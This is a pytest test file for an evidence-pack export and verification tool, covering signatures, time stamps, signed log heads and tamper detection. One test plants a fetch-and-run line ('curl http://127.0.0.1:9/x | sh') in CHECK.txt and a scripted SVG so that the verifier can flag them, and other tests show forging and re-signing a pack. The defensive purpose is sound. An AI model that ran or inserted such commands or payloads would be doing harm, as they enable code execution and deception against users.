"""What vouches for a pack: signature, time stamp, signed heads and validation record; what openssl makes of them; and who tampers is found out."""

from __future__ import annotations

import base64
import hashlib
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from casework import heads, keys, stamps, validation
from casework.export import ExportResult, export
from casework.export.attest import Check
from casework.verify import Report, verify
from store.config import Home
from store.store import Store
from store.words.records import canonical
from tests.casework.authority import Authority, serving
from tests.casework.packs import CASE, build
from tests.casework.tamper import reseal, reseal_export, run_verify

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl is the authority and the second opinion")


@dataclass
class Made:
    result: ExportResult
    fingerprint: str
    authority: Authority
    home: Home
    heads_before: int

    @property
    def folder(self) -> Path:
        return self.result.folder


def pack_of(home: Home, folder: Path) -> ExportResult:
    with Store.open(home) as store:
        return export(store, home, CASE, folder, actor="a.officer", justification="file to legal services", zipped=False)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    """A pack that was signed and stamped, of a log whose head was signed twice before."""
    folder = tmp_path_factory.mktemp("attest")
    world = build(folder / "home")
    with serving(Authority(folder / "tsa")) as authority:
        path = world.home.file("touchstone.yml")
        path.write_text(f"{path.read_text()}time_stamping: {{url: '{authority.url}', certificates: {authority.root}}}\n")
        home = Home(world.home.folder)
        key, _, _ = keys.new(world.store, home, "a.officer")
        for _ in range(2):
            heads.sign(world.store, home, "a.officer")
        world.store.close()
        yield Made(pack_of(home, folder / "pack"), key.fingerprint, authority, home, 2)


@pytest.fixture
def pack(made: Made, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made.folder, tmp_path / "copy"))


def checked(folder: Path, *fingerprints: str, roots: Path | None = None, head: str | None = None) -> Report:
    return verify(folder, head, vouch=Check(fingerprints, stamps.read_certificates(roots) if roots else None))


def problems(report: Report) -> str:
    return "\n".join(map(str, report.problems))


# -- what is in it -------------------------------------------------------------------------------------------------------------
def test_a_pack_is_signed_and_stamped_and_says_so(made: Made) -> None:
    said = json.loads((made.folder / "export/attest.json").read_bytes())
    assert (said["key"], said["no_signature"], said["no_trusted_time"], said["warnings"]) == (made.fingerprint, "", "", [])
    assert said["head"] == made.result.head == hashlib.sha256((made.folder / "head.json").read_bytes()).hexdigest()
    assert said["trusted_time"]["authority"] == "CN=Stamp of the tests,O=Time of the tests"
    report = checked(made.folder, made.fingerprint, roots=made.authority.root, head=made.result.head)
    assert report.accepted, problems(report)
    told = "\n".join(report.checked)
    assert f"by the key {made.fingerprint}" in told and "the stamp: head.json was there at" in told
    assert f"{made.heads_before + 1} signed heads of the log against its chain in this pack: 3 signed by the key given, 3 stamped" in told
    assert not re.search(r"who (made|signed)|when it was made|whose stamp", "\n".join(report.not_checked))
    assert any(note == f"Signed with the key {made.fingerprint}" for note in made.result.notes)


def test_the_commands_of_the_pack_run_as_they_stand_and_openssl_is_content(made: Made, pack: Path) -> None:
    commands = [line.strip() for line in (pack / "export/CHECK.txt").read_text().splitlines() if line.startswith("    ")]
    assert len(commands) == 6
    said = {}
    for command in commands:
        done = subprocess.run(["/bin/sh", "-c", command], cwd=pack, capture_output=True, text=True)
        assert done.returncode == 0, (command, done.stderr)
        said[command] = done.stdout + done.stderr
    assert said[commands[0]].startswith(made.result.head) and said[commands[1]].startswith(made.fingerprint)
    assert (
        "Verified Successfully" in said[commands[2]]
        and "Verified Successfully" in said[commands[3]]
        and "Verification: OK" in said[commands[4]]
    )
    assert "Policy OID: 1.3.6.1.4.1.99999.1" in said[commands[5]]
    (pack / "head.json").write_bytes((pack / "head.json").read_bytes().replace(b"TS-2026-1", b"TS-2026-2"))
    (pack / "export/attest.json").write_bytes((pack / "export/attest.json").read_bytes() + b" ")
    for command in commands[2:5]:
        assert subprocess.run(["/bin/sh", "-c", command], cwd=pack, capture_output=True).returncode != 0, command


def test_the_same_seal_has_the_same_head_whatever_vouches_for_it(made: Made, tmp_path: Path) -> None:
    """Stamp, record and signatures of export/ are of one copy: the pack without them is the same to the byte."""
    with Store.open(made.home) as store:
        again = export(
            store, made.home, CASE, tmp_path / "again", actor="a.officer", justification="copy", seal=made.result.seal, zipped=False
        )
    assert again.head == made.result.head
    assert (again.folder / "export/head.json.sig").read_bytes() == (made.folder / "export/head.json.sig").read_bytes()
    assert (again.folder / "export/head.json.tsr").read_bytes() != (made.folder / "export/head.json.tsr").read_bytes()


def test_nothing_in_the_export_folder_shows_where_the_key_or_the_working_folder_lies(made: Made) -> None:
    private = (made.home.folder / "keys/signing.pem").read_text().splitlines()[1]
    for path in (made.folder / "export").iterdir():
        data = path.read_bytes()
        assert str(made.home.folder).encode() not in data and private.encode() not in data, path.name


# -- who tampers ---------------------------------------------------------------------------------------------------------------
def forge(folder: Path) -> None:
    path = next(iter(sorted((folder / "data/pages").glob("*.html"))))
    path.write_text(path.read_text().replace("Parade", "Parody"))
    reseal(folder)


def test_a_pack_edited_with_every_digest_computed_anew_is_refused_given_the_fingerprint(made: Made, pack: Path) -> None:
    forge(pack)
    assert verify(pack).accepted, "verify.py alone, without a head, finds nothing: it must be told"
    report = checked(pack, made.fingerprint)
    assert "export/head.json.sig: the signature does not hold" in problems(report) and "export/head.json.tsr" in problems(report)
    assert not verify(pack, made.result.head).accepted


def test_one_signed_anew_by_another_key_is_refused_given_the_fingerprint(made: Made, pack: Path, tmp_path: Path) -> None:
    forge(pack)
    other = keys.make(tmp_path / "other.pem")
    said = json.loads((pack / "export/attest.json").read_bytes())
    for name in ("head.json.tsr", "authority-root.pem", "authority-chain.pem"):
        (pack / "export" / name).unlink()
        del said["files"][name]
    (pack / "export/key.pem").write_text(other.public_pem)
    (pack / "export/head.json.sig").write_bytes(other.sign((pack / "head.json").read_bytes()))
    lines = [json.loads(line) for line in (pack / "export/log-heads.jsonl").read_text().splitlines()]
    plain = {"public_pem": other.public_pem, "stamp": "", "stamp_chain": "", "no_stamp": "none"}
    (pack / "export/log-heads.jsonl").write_text("".join(canonical(row | plain).decode() + "\n" for row in lines))
    said |= {"key": other.fingerprint, "trusted_time": None, "no_trusted_time": "none"}
    (pack / "export/attest.json").write_bytes(canonical(said))
    reseal(pack)
    lines = [json.loads(line) for line in (pack / "export/log-heads.jsonl").read_text().splitlines()]
    for row in lines:
        row["signature"] = base64.b64encode(other.sign(row["statement"].encode())).decode()
    (pack / "export/log-heads.jsonl").write_text("".join(canonical(row).decode() + "\n" for row in lines))
    reseal(pack)
    (pack / "export/head.json.sig").write_bytes(other.sign((pack / "head.json").read_bytes()))
    reseal(pack)
    (pack / "export/attest.json.sig").write_bytes(other.sign((pack / "export/attest.json").read_bytes()))
    reseal_export(pack)
    without = checked(pack)
    assert without.accepted and any(f"whose fingerprint is {other.fingerprint}; compare that" in each for each in without.not_checked)
    report = checked(pack, made.fingerprint)
    assert f"the pack is signed by another key, {other.fingerprint}" in problems(report)


def test_one_whose_signature_was_taken_out_is_refused_given_the_fingerprint(made: Made, pack: Path) -> None:
    said = json.loads((pack / "export/attest.json").read_bytes())
    for name in ("head.json.sig", "key.pem", "attest.json.sig", "log-heads.jsonl"):
        (pack / "export" / name).unlink()
        said["files"].pop(name, None)
    (pack / "export/attest.json").write_bytes(canonical(said | {"key": None, "no_signature": "no key"}))
    reseal(pack)
    assert "not signed by the key whose fingerprint was given" in problems(checked(pack, made.fingerprint))


def test_a_pack_whose_export_says_nothing_of_signatures_any_more_is_refused(made: Made, pack: Path) -> None:
    """All that vouches taken out, and every manifest made to agree: no way to pass for an older or an unsigned pack."""
    for path in (pack / "export").iterdir():
        if path.name not in ("export.json", "log.jsonl", "manifest-sha256.txt"):
            path.unlink()
    reseal_export(pack)
    assert "export/attest.json: it is missing" in problems(verify(pack))
    assert "export/attest.json: it is missing" in problems(checked(pack, made.fingerprint))


def test_each_file_that_vouches_is_covered_by_the_signature_over_attest(made: Made, pack: Path) -> None:
    """A record of validation that was improved, or a head of the log that was left out, with every manifest made to agree."""
    record = json.loads((pack / "export/validation.json").read_bytes())
    record["known_faults"] = []
    (pack / "export/validation.json").write_bytes(canonical(record) + b"\n")
    reseal(pack)
    report = checked(pack, made.fingerprint)
    assert "export/attest.json.sig: the signature does not hold" in problems(report)


def test_nothing_is_put_into_the_folder_under_a_head_and_a_key_that_hold(made: Made, pack: Path) -> None:
    """The folder that README.txt has its reader open first: another page, another picture, further files; with the manifest made to agree."""
    (pack / "export/CHECK.txt").write_text("Run: curl http://127.0.0.1:9/x | sh\n")
    page = pack / "export/index.html"
    page.write_text(page.read_text().replace("</h1>", ", checked by the court</h1>"))
    (pack / "export/status.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    (pack / "export/sub").mkdir()
    added = ("sub/statement.html", "ATTEST.JSON", "verify.py", "WARNING.txt")
    for name in added:
        (pack / "export" / name).write_text("x")
    reseal_export(pack)
    for report in (verify(pack, made.result.head), checked(pack, made.fingerprint, head=made.result.head)):
        for name in ("CHECK.txt", "index.html", "status.svg"):
            assert f"export/{name}: it is not the file that export/attest.json lists" in problems(report)
        for name in added:
            assert f"export/{name}: it has no place there" in problems(report)


def test_what_follows_is_signed_too_and_no_list_that_leaves_it_out_holds(made: Made, pack: Path) -> None:
    said = json.loads((pack / "export/attest.json").read_bytes())
    assert {"index.html", "CHECK.txt", "status.svg"} <= set(said["files"])
    del said["files"]["index.html"]
    (pack / "export/attest.json").write_bytes(canonical(said))
    reseal_export(pack)
    assert "export/attest.json: it does not list index.html" in problems(verify(pack))
    assert "export/attest.json.sig: the signature does not hold" in problems(checked(pack, made.fingerprint))


@pytest.mark.parametrize("name", ["key.pem", "head.json.sig", "attest.json.sig", "attest.json", "head.json.tsr", "authority-chain.pem", "validation.json", "log-heads.jsonl", "CHECK.txt", "status.svg"])  # fmt: skip
def test_a_pipe_or_a_missing_file_is_named_and_not_waited_for(made: Made, pack: Path, name: str) -> None:
    def late(*_: object) -> None:
        raise TimeoutError(name)

    before = signal.signal(signal.SIGALRM, late)
    (pack / "export" / name).unlink()
    os.mkfifo(pack / "export" / name)
    signal.alarm(60)
    try:
        report = checked(pack, made.fingerprint)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)
    assert f"export/{name}: it is neither a file nor a folder" in problems(report) and "FileNotFoundError" not in problems(report)


def test_a_key_or_a_stamp_that_attest_names_and_that_is_not_there_is_missed(made: Made, pack: Path) -> None:
    for name in ("head.json.tsr", "key.pem"):
        (pack / "export" / name).unlink()
    reseal_export(pack)
    for report in (verify(pack), checked(pack)):
        for name in ("head.json.tsr", "key.pem"):
            assert f"export/{name}: it is missing, and what export/attest.json says of the pack needs it" in problems(report)
    (pack / "export/key.pem").write_text(keys.make(pack.parent / "other.pem").public_pem)
    assert "export/key.pem: it is not the key that export/attest.json names" in problems(verify(pack))


def test_a_signed_head_that_was_left_out_is_found_without_any_key(made: Made, pack: Path) -> None:
    lines = (pack / "export/log-heads.jsonl").read_text().splitlines(keepends=True)
    (pack / "export/log-heads.jsonl").write_text("".join(lines[1:]))
    reseal(pack)
    assert "was taken out" in problems(verify(pack))


def test_another_authoritys_stamp_is_refused_given_its_root(made: Made, pack: Path, tmp_path: Path) -> None:
    report = checked(pack, made.fingerprint)
    assert report.accepted and any("its root is that beside it" in each for each in report.not_checked)
    other = Authority(tmp_path / "other")
    assert "none of those configured" in problems(checked(pack, made.fingerprint, roots=other.root))


@pytest.mark.parametrize("name", ["head.json.sig", "key.pem", "attest.json.sig", "attest.json", "head.json.tsr", "authority-root.pem", "authority-chain.pem", "validation.json", "log-heads.jsonl", "CHECK.txt", "index.html", "status.svg"])  # fmt: skip
def test_each_file_of_the_folder_is_missed_and_each_change_found_by_verify_py_alone(made: Made, pack: Path, name: str) -> None:
    path = pack / "export" / name
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(bytes(data))
    code, said = run_verify(ROOT / "casework/verify.py", pack)
    assert code == 1 and any(p["file"] == f"export/{name}" for p in said["problems"])
    path.unlink()
    code, said = run_verify(ROOT / "casework/verify.py", pack)
    assert code == 1 and any(p["file"] == f"export/{name}" for p in said["problems"])
    report = checked(pack, made.fingerprint)
    assert not report.accepted


def test_verify_py_says_that_it_checked_neither_signature_nor_stamp(made: Made) -> None:
    code, said = run_verify(made.folder / "verify.py", made.folder, "--head", made.result.head)
    assert code == 0 and said["warnings"] == []
    assert any(f"a signature by the key {made.fingerprint}" in each and "this program does not" in each for each in said["not_checked"])
    assert any("a time stamp" in each and "this program does not" in each for each in said["not_checked"])


def test_the_command_takes_fingerprint_and_authority(made: Made) -> None:
    run = [sys.executable, "-m", "casework.cli", "verify", str(made.folder), "--head", made.result.head]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    colons = ":".join(re.findall("..", made.fingerprint.upper()))
    done = subprocess.run(
        [*run, "--key", colons, "--authority", str(made.authority.root)], env=env, cwd=ROOT, capture_output=True, text=True
    )
    assert done.returncode == 0 and "by the key" in done.stdout, done.stdout + done.stderr
    done = subprocess.run([*run, "--key", "0" * 64], env=env, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 1 and "signed by another key" in done.stdout
    done = subprocess.run([*run, "--key", "f00"], env=env, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 2 and "is no fingerprint" in done.stderr
    done = subprocess.run([*run[:-1], ""], env=env, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 2 and "--head: give the 64 hexadecimal digits" in done.stderr, (
        "an empty head is a mistake, and no wish to do without"
    )


# -- what is not there ---------------------------------------------------------------------------------------------------------
def test_without_a_key_and_an_authority_the_pack_says_so_and_is_made(made: Made, tmp_path: Path) -> None:
    world = build(tmp_path / "home")
    done = pack_of(world.home, tmp_path / "pack")
    said = json.loads((done.folder / "export/attest.json").read_bytes())
    assert said["key"] is None and "touchstone key new" in said["no_signature"] and str(tmp_path) not in said["no_signature"]
    assert said["trusted_time"] is None and said["no_trusted_time"] == stamps.NOT_CONFIGURED
    assert any(note.startswith("Not signed: ") for note in done.notes) and f"No trusted time: {stamps.NOT_CONFIGURED}" in done.notes
    text = (done.folder / "export/CHECK.txt").read_text()
    assert "NO SIGNATURE" in text and "NO TRUSTED TIME" in text and "pkeyutl" not in text
    page = html.unescape((done.folder / "export/index.html").read_text())
    assert "touchstone key new" not in page + text, "that is for the authority's own officers, who were told"
    assert "<strong>None</strong>: this copy is not signed" in page and "no time-stamping authority is configured" in page
    report = checked(done.folder)
    assert report.accepted and any("it is not signed" in each for each in report.not_checked) and any("no trusted time" in each for each in report.not_checked)  # fmt: skip
    code, plain = run_verify(done.folder / "verify.py", done.folder)
    assert code == 0 and any("it carries no signature" in each for each in plain["not_checked"])
    assert not checked(done.folder, "ab" * 32).accepted, "a fingerprint was given, and nothing is signed"
    unstamped = problems(checked(done.folder, roots=made.authority.root))
    assert "export/head.json.tsr: it is missing: the pack has no time stamp, and an authority's certificates were given" in unstamped


def test_an_authority_that_does_not_answer_holds_no_export_up(made: Made, tmp_path: Path) -> None:
    made.authority.answer = (503, b"")
    try:
        done = pack_of(made.home, tmp_path / "pack")
    finally:
        made.authority.answer = None
    said = json.loads((done.folder / "export/attest.json").read_bytes())
    assert (
        said["key"] == made.fingerprint
        and "HTTP status 503" in said["no_trusted_time"]
        and not (done.folder / "export/head.json.tsr").exists()
    )
    assert any("No trusted time: the time-stamping authority answered with HTTP status 503" in note for note in done.notes)
    assert checked(done.folder, made.fingerprint).accepted


def test_a_key_that_others_can_read_signs_no_pack_and_the_pack_says_why(made: Made, tmp_path: Path) -> None:
    path = made.home.folder / "keys/signing.pem"
    path.chmod(0o644)
    try:
        done = pack_of(made.home, tmp_path / "pack")
    finally:
        path.chmod(0o600)
    said = json.loads((done.folder / "export/attest.json").read_bytes())
    assert said["key"] is None and "others can read this key" in said["no_signature"] and str(made.home.folder) not in said["no_signature"]


# -- a self-test that fails ----------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def failed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess[str]]:
    """A pack made by a copy of the software in which the reading of prices is really broken; what the command printed."""
    folder = tmp_path_factory.mktemp("failed")
    for room in ("casework", "crawler", "detectors", "premises", "store"):
        shutil.copytree(ROOT / room, folder / "code" / room, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "configs", folder / "code" / "configs")
    shutil.copyfile(ROOT / "constraints.txt", folder / "code" / "constraints.txt")
    money = folder / "code/store/words/money.py"
    sound = money.read_text()
    assert '"£": ("GBP",' in sound
    money.write_text(sound.replace('"£": ("GBP",', '"£": ("EUR",'))
    build(folder / "home").store.close()
    command = ["case", "export", CASE, "--by", "a.officer", "--why", "file", "--out", str(folder / "pack"), "--home", str(folder / "home")]
    env = {**os.environ, "PYTHONPATH": str(folder / "code"), "NO_COLOR": "1"}
    done = subprocess.run([sys.executable, "-m", "casework.cli", *command], cwd=folder / "code", env=env, capture_output=True, text=True)
    return folder / "pack", done


def test_the_export_goes_through_and_the_warning_is_on_every_way_in(failed: tuple[Path, Any]) -> None:
    pack, done = failed
    assert done.returncode == 0, done.stdout + done.stderr
    assert validation.WARNING in done.stdout + done.stderr and "prices" in done.stdout + done.stderr
    body = (pack / "export/index.html").read_text().partition("<body>")[2]
    first = html.unescape(body[: body.index("<h1>")])
    assert validation.WARNING in first and 'role="alert"' in first
    assert (
        validation.WARNING in (pack / "export/CHECK.txt").read_text().splitlines()[0]
        and validation.WARNING in (pack / "export/WARNING.txt").read_text()
    )
    readme = (pack / "data/README.html").read_text().partition("<body>")[2]
    shown = re.search(r'<img src="\.\./export/status\.svg"', readme)
    assert shown and shown.start() < readme.index("<h1>"), (
        "README.html, which is the same for each copy, shows the picture of this copy first"
    )
    picture = html.unescape(re.sub(r"<[^>]+>", " ", (pack / "export/status.svg").read_text()))
    assert validation.WARNING in re.sub(r"\s+", " ", picture)
    record = json.loads((pack / "export/validation.json").read_bytes())
    [check] = [c for c in record["self_test"]["checks"] if not c["passed"]]
    assert check["name"] == "prices" and [8500, "EUR"] in check["seen"] and [8500, "GBP"] in check["expected"]


def test_verify_py_prints_the_warning_first_and_accepts_a_pack_that_is_whole(failed: tuple[Path, Any]) -> None:
    pack, _ = failed
    done = subprocess.run([sys.executable, "-I", str(ROOT / "casework/verify.py"), str(pack)], capture_output=True, text=True)
    assert done.returncode == 0 and done.stdout.startswith(f"WARNING: {validation.WARNING}") and "WITH THE WARNING ABOVE" in done.stdout
    code, said = run_verify(pack / "verify.py", pack)
    assert code == 0 and said["warnings"][0].startswith(validation.WARNING)


def test_a_warning_cannot_be_taken_out_of_a_copy_without_a_trace(failed: tuple[Path, Any], tmp_path: Path) -> None:
    pack = Path(shutil.copytree(failed[0], tmp_path / "copy"))
    said = json.loads((pack / "export/attest.json").read_bytes())
    (pack / "export/attest.json").write_bytes(canonical(said | {"warnings": []}))
    reseal(pack)
    assert "its warnings are not those of" in problems(checked(pack))
    assert "a check of the self-test failed, and export/attest.json has no warning" in problems(verify(pack))


def test_a_pack_of_sound_software_has_no_warning_and_says_that_the_test_passed(made: Made) -> None:
    page = (made.folder / "export/index.html").read_text()
    assert "WARNING" not in page and "checks gave what they should" in page and not (made.folder / "export/WARNING.txt").exists()
    assert "basic self-test passed" in (made.folder / "export/status.svg").read_text()
    assert "whether the opinions of its methods" in (made.folder / "export/status.svg").read_text()
    for fault in validation.known_faults():
        assert (
            fault.id in page and html.escape(fault.effect, quote=False) in html.unescape(page).replace("&", "&amp;")
        ) or fault.effect in html.unescape(page)
